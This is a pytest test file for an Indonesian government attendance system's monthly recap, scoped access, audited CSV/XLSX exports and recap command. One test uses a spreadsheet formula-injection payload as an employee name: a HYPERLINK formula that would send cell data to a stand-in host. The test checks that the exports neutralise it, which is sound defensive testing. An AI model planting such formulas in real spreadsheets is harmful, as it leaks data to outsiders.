"""Recap scope, activity minutes, exports (recap and raw) and the `recap` command.

Dataset (Monday 2026-10-05, default schedule and rules): DISKOMINFO has Ani (31 minutes late:
TL2, 1 %) and Budi (no record: TK, 5 %); DINKES has Citra (on time, 0 %). Ani has 200 approved
activity minutes (a rejected 100 and a deleted 50 do not count) against a target of 300.
"""

from __future__ import annotations

import csv
import io
import json
from dataclasses import dataclass
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import Engine, func
from sqlmodel import select

import db
from ekinerja import cli
from ekinerja.access import PermissionDenied, Scope, Viewer
from ekinerja.calendar import sync_calendar
from ekinerja.models import AuditEntry
from ekinerja.recap import Month, monthly_recap
from ekinerja.recap_export import export_raw, export_recap
from ekinerja.summary import refresh
from ekinerja.timeutil import utc_now
from ekinerja.validation import ValidationError
from tests import factories as f

MON = date(2026, 10, 5)
OCT = Month(2026, 10)
TODAY = date(2026, 11, 29)
HR = Viewer("uji-hr", "hr")


@dataclass
class Data:
    kominfo: int
    dinkes: int
    ani: int


def _build(engine: Engine, ani_name: str = "Ani Lestari") -> Data:
    with db.write_session(engine) as session:
        sync_calendar(session, [2026])
        kominfo = f.unit(session, "DISKOMINFO", name="Dinas Komunikasi dan Informatika")
        dinkes = f.unit(session, "DINKES", name="Dinas Kesehatan")
        ani = f.employee(session, kominfo, name=ani_name)
        budi = f.employee(session, kominfo, name="Budi Santoso")
        citra = f.employee(session, dinkes, name="Citra Dewi")
        gone = f.employee(session, dinkes, name="Dedi Terhapus")
        f.punch(session, ani, MON, 8, 1)
        f.punch(session, ani, MON, 16, 0, "out")
        f.punch(session, ani, MON, 6, 0, deleted_at=utc_now())  # soft-deleted: ignored everywhere
        f.punch(session, citra, MON, 7, 25)
        f.punch(session, citra, MON, 16, 5, "out")
        for minutes, status, deleted in (
            (200, "disetujui", False),
            (100, "ditolak", False),
            (50, "disetujui", True),
        ):
            act = f.activity(session, ani, MON, minutes)
            act.status = status
            act.deleted_at = utc_now() if deleted else None
            session.add(act)
        refresh(session, None, MON, MON, today=TODAY)
        gone.status = "dihapus"
        session.add(gone)
        assert budi.id and citra.id
        return Data(kominfo.id, dinkes.id, ani.id)  # type: ignore[arg-type]


def _audit(engine: Engine, action: str) -> list[AuditEntry]:
    with db.read_session(engine) as session:
        return list(session.exec(select(AuditEntry).where(AuditEntry.action == action)).all())


def _csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_recap_rows_for_the_whole_city(engine: Engine) -> None:
    _build(engine)
    with db.read_session(engine) as session:
        rows = monthly_recap(session, HR, OCT, today=TODAY).rows.set_index("name")
    # Dedi (status dihapus) is hidden; every other employee has one row.
    assert sorted(rows.index) == ["Ani Lestari", "Budi Santoso", "Citra Dewi"]
    assert rows.loc[
        "Ani Lestari", ["tl2", "deduction_pct", "activity_minutes", "activity_target"]
    ].tolist() == [1, 1.0, 200, 300]
    assert rows.loc["Ani Lestari", "activity_ratio"] == pytest.approx(66.7)
    assert rows.loc[
        "Budi Santoso", ["tk", "deduction_pct", "activity_minutes", "activity_target"]
    ].tolist() == [1, 5.0, 0, 300]
    assert rows.loc["Citra Dewi", ["hadir", "deduction_pct"]].tolist() == [1, 0.0]


def test_supervisor_sees_only_their_unit(engine: Engine) -> None:
    data = _build(engine)
    boss = Viewer("uji-atasan", "supervisor", Scope.units([data.kominfo]))
    with db.read_session(engine) as session:
        rows = monthly_recap(session, boss, OCT, today=TODAY).rows
        assert sorted(rows["name"]) == ["Ani Lestari", "Budi Santoso"]
        with pytest.raises(PermissionDenied):
            monthly_recap(session, boss, OCT, data.dinkes, today=TODAY)


def test_csv_export_of_the_city_is_audited_with_filter_and_row_count(engine: Engine) -> None:
    _build(engine)
    with db.write_session(engine) as session:
        name, data = export_recap(session, HR, OCT, None, "csv", today=TODAY)
    assert name == "rekap_tpp_2026-10_semua.csv"
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    rows = {r["Nama"]: r for r in _csv(data)}
    assert rows["Ani Lestari"]["TL2"] == "1" and rows["Ani Lestari"]["Potongan TPP (%)"] == "1"
    assert rows["Budi Santoso"]["TK"] == "1" and rows["Budi Santoso"]["Potongan TPP (%)"] == "5"
    (entry,) = _audit(engine, "rekap.ekspor")
    assert (entry.actor, entry.entity_id) == ("uji-hr", "2026-10")
    after = json.loads(entry.after or "{}")
    assert after == {
        "bulan": "2026-10",
        "unit_id": None,
        "format": "csv",
        "baris": 3,
        "cakupan": "semua",
    }
    assert "Ani" not in (entry.after or "")  # no personal names in the audit trail


def test_xlsx_export_has_summary_one_sheet_per_unit_and_notes(engine: Engine) -> None:
    _build(engine)
    with db.write_session(engine) as session:
        _name, data = export_recap(session, HR, OCT, None, "xlsx", today=TODAY)
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Ringkasan", "DINKES", "DISKOMINFO", "Keterangan"]
    kominfo = book["DISKOMINFO"]
    header = [c.value for c in kominfo[1]]
    assert kominfo.freeze_panes == "A2" and kominfo.max_row == 3
    ani = next(
        r
        for r in kominfo.iter_rows(min_row=2, values_only=True)
        if r[header.index("Nama")] == "Ani Lestari"
    )
    assert ani[header.index("Potongan TPP (%)")] == 1.0
    assert isinstance(ani[header.index("TL2")], int)
    summary = {r[0]: r for r in book["Ringkasan"].iter_rows(min_row=2, values_only=True)}
    head = [c.value for c in book["Ringkasan"][1]]
    assert summary["DISKOMINFO"][head.index("Pegawai")] == 2
    assert summary["DISKOMINFO"][head.index("Rata-rata potongan (%)")] == 3.0
    notes = dict(book["Keterangan"].iter_rows(min_row=2, values_only=True))
    assert notes["Bulan"] == "Oktober 2026" and notes["Oleh"] == "uji-hr"


def test_hostile_names_are_neutralised_in_both_formats(engine: Engine) -> None:
    _build(engine, ani_name='=HYPERLINK("http://x.example/?d="&A2,"y")')
    with db.write_session(engine) as session:
        _n, csv_data = export_recap(session, HR, OCT, None, "csv", today=TODAY)
        _n, xlsx_data = export_recap(session, HR, OCT, None, "xlsx", today=TODAY)
    names = [r["Nama"] for r in _csv(csv_data)]
    assert '\'=HYPERLINK("http://x.example/?d="&A2,"y")' in names
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_data))["DISKOMINFO"]
    cells = [c for c in sheet["D"] if isinstance(c.value, str) and c.value.startswith("=HYPER")]
    assert cells and all(c.data_type == "s" for c in cells)


@pytest.mark.parametrize(
    ("viewer_role", "unit", "month", "error"),
    [
        ("hr", None, Month(2026, 9), ValidationError),  # no data in September
        ("supervisor", "dinkes", OCT, PermissionDenied),  # a unit outside the scope
        ("hr", "unknown", OCT, ValidationError),
    ],
)
def test_bad_recap_export_exports_nothing_and_audits_nothing(
    engine: Engine, viewer_role: str, unit: str | None, month: Month, error: type[Exception]
) -> None:
    data = _build(engine)
    viewer = Viewer(
        "uji",
        viewer_role,
        Scope.units([data.kominfo]) if viewer_role == "supervisor" else Scope.everything(),
    )
    unit_id = {"dinkes": data.dinkes, "unknown": 9999, None: None}[unit]
    with pytest.raises(error) as err, db.write_session(engine) as session:
        export_recap(session, viewer, month, unit_id, "csv", today=TODAY)
    if month == Month(2026, 9):
        assert (
            str(err.value)
            == "Tidak ada data absensi untuk semua unit dalam cakupan pada September 2026. Tidak ada yang diekspor."
        )
    assert _audit(engine, "rekap.ekspor") == []


def test_raw_punch_export_hides_soft_deleted_rows_and_is_audited(engine: Engine) -> None:
    data = _build(engine)
    with db.write_session(engine) as session:
        name, blob = export_raw(session, HR, "punch", data.kominfo, MON, MON, "csv")
    rows = _csv(blob)
    assert name == "punch_DISKOMINFO_2026-10-05_2026-10-05.csv"
    assert [(r["Nama"], r["Waktu (WIB)"], r["Arah"]) for r in rows] == [
        ("Ani Lestari", "2026-10-05 08:01:00", "Masuk"),
        ("Ani Lestari", "2026-10-05 16:00:00", "Pulang"),
    ]
    (entry,) = _audit(engine, "ekspor.mentah")
    assert json.loads(entry.after or "{}")["baris"] == 2


def test_raw_summary_and_activity_exports(engine: Engine) -> None:
    data = _build(engine)
    with db.write_session(engine) as session:
        _n, summary = export_raw(session, HR, "summary", data.kominfo, MON, MON, "xlsx")
        _n, acts = export_raw(session, HR, "activity", data.kominfo, MON, MON, "csv")
    sheet = openpyxl.load_workbook(io.BytesIO(summary))["Ringkasan harian"]
    head = [c.value for c in sheet[1]]
    statuses = sorted(r[head.index("Status")] for r in sheet.iter_rows(min_row=2, values_only=True))
    assert statuses == ["Hadir", "Tanpa keterangan (TK)"]
    assert sorted(int(r["Menit"]) for r in _csv(acts)) == [100, 200]  # the deleted one is hidden


@pytest.mark.parametrize(
    ("role", "start", "end", "error", "message"),
    [
        ("supervisor", MON, MON, PermissionDenied, "tidak berwenang"),
        ("hr", MON, date(2026, 10, 1), ValidationError, "Periode tidak sah"),
        ("hr", date(2025, 1, 1), date(2026, 10, 5), ValidationError, "lebih dari 366 hari"),
        ("hr", date(2026, 9, 1), date(2026, 9, 30), ValidationError, "Tidak ada rekaman absen"),
    ],
)
def test_bad_raw_export_exports_nothing(
    engine: Engine, role: str, start: date, end: date, error: type[Exception], message: str
) -> None:
    data = _build(engine)
    viewer = Viewer(
        "uji", role, Scope.units([data.kominfo]) if role == "supervisor" else Scope.everything()
    )
    with pytest.raises(error, match=message), db.write_session(engine) as session:
        export_raw(session, viewer, "punch", data.kominfo, start, end, "csv")
    assert _audit(engine, "ekspor.mentah") == []


# --- the command line ------------------------------------------------------------------------------


@pytest.fixture
def cli_db(engine: Engine, monkeypatch: pytest.MonkeyPatch) -> Engine:
    monkeypatch.setenv("DATABASE_URL", engine.url.render_as_string(hide_password=False))
    return engine


def test_cli_writes_the_unit_recap_and_audits_as_the_cli_actor(
    cli_db: Engine, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _build(cli_db)
    out = tmp_path / "rekap.xlsx"
    code = cli.main(["recap", "--month", "2026-10", "--unit", "DISKOMINFO", "-o", str(out)])
    assert code == 0, capsys.readouterr().err
    assert "Rekap Oktober 2026 (XLSX" in capsys.readouterr().out
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["Ringkasan", "DISKOMINFO", "Keterangan"]
    (entry,) = _audit(cli_db, "rekap.ekspor")
    assert entry.actor.startswith("cli:") and json.loads(entry.after or "{}")["format"] == "xlsx"


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--month", "2026-10", "--unit", "NOPE", "--format", "csv"], "Unit tidak dikenal: 'NOPE'"),
        (["--month", "2026-09", "--format", "csv"], "Tidak ada data absensi"),
        (["--month", "2026-10"], "Sebutkan --format csv atau xlsx"),
    ],
)
def test_cli_bad_input_exits_2_and_writes_no_file(
    cli_db: Engine,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    args: list[str],
    message: str,
) -> None:
    _build(cli_db)
    out = tmp_path / "rekap.dat"
    assert cli.main(["recap", *args, "-o", str(out)]) == 2
    assert message in capsys.readouterr().err
    assert not out.exists()
    with db.read_session(cli_db) as session:
        assert (
            session.exec(
                select(func.count())
                .select_from(AuditEntry)
                .where(AuditEntry.action == "rekap.ekspor")
            ).one()
            == 0
        )
